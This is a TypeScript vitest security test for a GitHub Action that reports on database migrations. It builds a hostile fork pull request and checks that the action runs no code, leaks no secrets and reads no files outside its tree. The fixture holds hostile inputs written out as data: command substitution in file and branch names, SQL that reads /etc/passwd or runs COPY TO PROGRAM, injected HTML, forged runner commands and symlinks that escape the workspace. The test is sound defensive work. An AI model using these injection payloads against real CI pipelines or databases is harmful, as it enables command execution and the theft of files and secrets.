/** A pull request of a fork that tries everything at once, with the built action: a report, and nothing else. */
import { existsSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { actionWorld, type ActionWorld } from "#test/support/action-world.ts";
import { builtAction, type BuiltAction } from "#test/support/built-action.ts";
import { actionsToken } from "#test/support/fake-github/fake-github.ts";
import type { ActionRun } from "#test/support/run-action.ts";

const TIMEOUT_MS = 900_000;
const SECRET = "sk-ant-do-not-show-0123456789abcdef";
const READER = "ghs_readonly00000000000000000000000000";

describe("a hostile fork", { timeout: TIMEOUT_MS }, () => {
  let action: BuiltAction;
  let world: ActionWorld;
  let run: ActionRun;
  const outside = mkdtempSync(join(tmpdir(), "querygenie-outside-"));
  const proof = join(outside, "proof");

  beforeAll(async () => {
    action = builtAction();
    world = await actionWorld(action.folder);
    const { github, repository } = world;
    github.addToken(READER, actionsToken({ contents: "read", pull_requests: "read" }));
    writeFileSync(join(outside, "secret.sql"), "CREATE TABLE stolen_secret (id int);\n");
    const head = repository.bare.commit({
      parents: [repository.bare.resolve("main") ?? ""],
      message: `::error::forged\n`,
      changes: {
        "migrations/0005_$(touch proof);`touch proof`.sql": [
          "-- ::add-mask::forged",
          "/* ![x](https://evil.example) @everyone <img src=x onerror=alert(1)>\n::error file=x::forged */",
          `CREATE TABLE people."::error::forged\n![x](https://evil.example)" (id int);`,
          "COPY people.customers FROM '/etc/passwd';",
          `COPY people.customers TO PROGRAM 'touch ${proof}';`,
          "SELECT pg_read_file('/etc/passwd');",
          "ALTER TABLE people.customers DROP COLUMN birth_date;",
          "",
        ].join("\n"),
        "src/schema.ts": `import { writeFileSync } from "node:fs"; writeFileSync(${JSON.stringify(proof)}, "x");\n`,
        "drizzle.config.ts": `import { writeFileSync } from "node:fs"; writeFileSync(${JSON.stringify(proof)}, "x"); export default { schema: "./src/schema.ts" };\n`,
        "querygenie.yml": [
          "version: 1",
          "publish: { mode: commit, onPullRequests: commit }",
          "ai: { enabled: true, endpoint: https://evil.example/v1 }",
          "output: { docs: .github/workflows }",
          "databases: [{ id: shop, dialect: postgres, sources: [{ path: migrations }] }]",
          "",
        ].join("\n"),
        "action.yml": "runs: { using: node24, main: evil.js }\n",
      },
    });
    const pull = github.openPull(repository, {
      head: "$(touch proof)",
      headRepo: "mallory/shop",
      sha: head,
      user: "mallory",
      title: "`touch proof` ${{ secrets.X }}",
    });
    github.log.length = 0;
    run = await world.onPull(pull, {
      token: READER,
      env: { ANTHROPIC_API_KEY: SECRET },
      prepare: (workspace) => {
        symlinkSync(join(outside, "secret.sql"), join(workspace, "migrations/0006_link.sql"));
        symlinkSync(outside, join(workspace, "linked"));
      },
    });
  }, TIMEOUT_MS);

  afterAll(async () => {
    await world.close();
    action.remove();
    rmSync(outside, { recursive: true, force: true });
  });

  test("gets its report", () => {
    expect(run.code, run.summary + run.log).toBe(1);
    // The table is one of the base, though the fork's configuration gave the database another name.
    expect(run.summary).toContain("drop-column");
    expect(run.summary).toContain("is skipped: the embedded engine has neither");
    expect(JSON.parse(run.report)).toMatchObject({ version: 1 });
  });

  test("makes no call that writes, and none at all with its own run", () => {
    expect(world.github.log.map(({ call }) => call)).toEqual([]);
  });

  test("runs nothing of its own", () => {
    expect(existsSync(proof)).toBe(false);
  });

  test("reads nothing outside its tree", () => {
    expect(run.report + run.summary + run.log).not.toContain("stolen_secret");
    expect(run.report + run.summary + run.log).not.toContain("root:x:0:0");
  });

  test("sees no secret", () => {
    expect(run.report + run.summary + run.log).not.toContain(SECRET);
    expect(run.report + run.summary + run.log).not.toContain(READER);
    expect(run.masked).toEqual(expect.arrayContaining([SECRET, READER]));
  });

  test("gives the runner no command and the page no markup", () => {
    expect(run.annotations.map(({ text }) => text)).not.toContain("forged");
    expect(run.masked).not.toContain("forged");
    const shown = run.summary.replaceAll(/(`+)[^`][\s\S]*?\1/g, "");
    expect(shown).not.toMatch(/(?<![\\!])!\[x\]|(?<!\\)<img|@everyone/);
  });

  test("sets the outputs and writes no file of the repository", () => {
    expect(Object.keys(run.outputs)).toContain("report-path");
    expect(run.outputs["commit-sha"]).toBe("");
  });
});
